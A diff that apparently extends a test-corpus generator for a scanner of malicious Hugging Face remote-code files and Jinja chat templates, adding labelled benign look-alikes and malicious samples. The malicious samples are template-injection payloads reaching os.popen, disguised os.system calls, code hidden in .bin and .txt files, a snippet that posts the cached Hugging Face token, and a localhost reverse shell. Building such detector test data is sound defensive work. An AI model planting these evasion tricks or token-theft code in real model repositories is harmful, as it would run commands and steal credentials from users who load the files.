@@ -1427,6 +1427,182 @@ for name, cls, desc, src in PY_BAD:
                                          "model_type": "x"}, indent=2),
         "malicious", cls, "config.json whose auto_map imports modeling_x.py (" + desc + ")")
 
+# ---------------------------------------------------------------- round 2
+M2 = [
+    ("map_dotted_attribute", "computed-name", "map(attribute='__init__.__globals__') with a dotted path",
+     "{{ [cycler]|map(attribute='__init__.__globals__')|first }}"),
+    ("groupby_globals", "computed-name", "groupby('__globals__') then .grouper",
+     "{%- for g in [lipsum]|groupby('__globals__') %}{{ g.grouper.os." + POPEN + " }}{%- endfor %}"),
+    ("sort_attribute", "computed-name", "sort(attribute='__class__') reaching internals through a filter",
+     "{{ (messages|sort(attribute='__class__.__mro__'))|first }}"),
+    ("format_map_field", "computed-name", "str.format_map with a field that walks attributes",
+     "{{ '{x.__init__.__globals__}'.format_map({'x': cycler}) }}"),
+    ("attr_get_os", "computed-name", "attr('__globals__') then attr('get')('os')",
+     "{{ (lipsum|attr('__globals__')|attr('get'))('os')|attr('popen')('" + CMD + "') }}"),
+    ("spaced_dots", "direct-dunder", "attribute dots surrounded by whitespace and newlines",
+     "{{ lipsum\n .\n __globals__ . os . " + POPEN + " }}"),
+    ("huge_pow_repeat", "resource-exhaustion", "string repeated by an overflowing power (2**100)",
+     "{{ 'A' * (2 ** 100) }}"),
+]
+for name, cls, desc, payload in M2:
+    put(f"malicious/templates/{name}.jinja", HOST.replace("{payload}", payload), "malicious", cls, desc)
+
+PY_BENIGN2 = {
+"benign/hf-remote/ldm_util.py": """import importlib
+
+import torch
+
+
+def get_obj_from_str(string, reload=False):
+    module, cls = string.rsplit(".", 1)
+    if reload:
+        module_imp = importlib.import_module(module)
+        importlib.reload(module_imp)
+    return getattr(importlib.import_module(module, package=None), cls)
+
+
+def instantiate_from_config(config):
+    if "target" not in config:
+        raise KeyError("Expected key `target` to instantiate.")
+    return get_obj_from_str(config["target"])(**config.get("params", dict()))
+
+
+class LatentDiffusion(torch.nn.Module):
+    def __init__(self, first_stage_config, cond_stage_config):
+        super().__init__()
+        self.first_stage_model = instantiate_from_config(first_stage_config)
+        self.cond_stage_model = instantiate_from_config(cond_stage_config)
+""",
+"benign/hf-remote/layers_init.py": """import importlib
+
+_SUBMODULES = ("rotary", "norm", "mlp")
+_loaded = {}
+for _name in _SUBMODULES:
+    _loaded[_name] = importlib.import_module(f".{_name}", __package__)
+
+__all__ = list(_SUBMODULES)
+""",
+"benign/hf-remote/env_probe.py": """import os
+import shutil
+import subprocess
+
+import torch
+
+
+def cuda_arch_flags():
+    if shutil.which("nvcc") is None:
+        return []
+    out = subprocess.run(["nvcc", "--version"], capture_output=True, text=True, check=False).stdout
+    major, minor = torch.cuda.get_device_capability()
+    return [f"-gencode=arch=compute_{major}{minor},code=sm_{major}{minor}"] if "release" in out else []
+
+
+def cache_dir():
+    path = os.path.join(os.environ.get("HF_HOME", os.path.expanduser("~/.cache/huggingface")), "custom_kernels")
+    os.makedirs(path, exist_ok=True)
+    return path
+""",
+}
+for rel, src in PY_BENIGN2.items():
+    put(rel, src, "benign", "hf-remote-code-py", "remote-code look-alike: " + os.path.basename(rel))
+
+PY_BAD2 = [
+    ("spec-from-bin", "py-code-load", "importlib spec_from_file_location + exec_module of a .bin file", """
+import importlib.util
+import os
+
+_p = os.path.join(os.path.dirname(__file__), "training_args.bin")
+_s = importlib.util.spec_from_file_location("_x", _p)
+_m = importlib.util.module_from_spec(_s)
+_s.loader.exec_module(_m)
+"""),
+    ("runpy-path", "py-code-load", "runpy.run_path of a file shipped under another extension", """
+import os
+import runpy
+
+runpy.run_path(os.path.join(os.path.dirname(__file__), "vocab.txt"))
+"""),
+    ("exec-open-read", "py-code-load", "exec(open(other file).read()) at import", """
+import os
+
+exec(open(os.path.join(os.path.dirname(__file__), "merges.txt")).read())
+"""),
+    ("partial-system", "py-command", "functools.partial(os.system, cmd)()", """
+import functools
+import os
+
+functools.partial(os.system, "CMD")()
+"""),
+    ("methodcaller", "py-command", "operator.methodcaller('system', cmd)(os)", """
+import operator
+import os
+
+operator.methodcaller("system", "CMD")(os)
+"""),
+    ("map-system", "py-command", "list(map(os.system, [cmd]))", """
+import os
+
+list(map(os.system, ["CMD"]))
+"""),
+    ("getoutput", "py-command", "subprocess.getoutput at import", """
+from subprocess import getoutput
+
+getoutput("CMD")
+"""),
+    ("decorator-lambda", "py-command", "decorator expression running a command at class creation", """
+import os
+
+
+@(lambda cls: (os.system("CMD"), cls)[1])
+class M:
+    pass
+"""),
+    ("init-subclass", "py-command", "__init_subclass__ hook running a command when a subclass is defined", """
+import os
+
+
+class Base:
+    def __init_subclass__(cls, **kw):
+        super().__init_subclass__(**kw)
+        os.system("CMD")
+
+
+class M(Base):
+    pass
+"""),
+    ("token-file-read", "py-credentials", "reads the cached Hugging Face token file and posts it", """
+import os
+
+import requests
+
+with open(os.path.expanduser("~/.cache/huggingface/token")) as f:
+    requests.post("http://127.0.0.1:9/", data=f.read(), timeout=1)
+"""),
+    ("reverse-shell", "py-network", "socket connect + dup2 + shell", """
+import os
+import socket
+import subprocess
+
+s = socket.socket()
+s.connect(("127.0.0.1", 9))
+os.dup2(s.fileno(), 0)
+subprocess.call(["/bin/sh", "-c", "CMD"])
+"""),
+    ("meta-path-hook", "py-hook", "import hook inserted into sys.meta_path", """
+import sys
+
+
+class _Finder:
+    def find_spec(self, name, path=None, target=None):
+        return None
+
+
+sys.meta_path.insert(0, _Finder())
+"""),
+]
+for name, cls, desc, src in PY_BAD2:
+    put(f"malicious/remote-code/{name}/modeling_x.py", src.replace("CMD", CMD).lstrip("\n"), "malicious", cls, desc)
+
 with open(os.path.join(HERE, "MANIFEST.tsv"), "w") as f:
     f.write("path\texpected\tclass\tdescription\n")
     for r in ROWS:
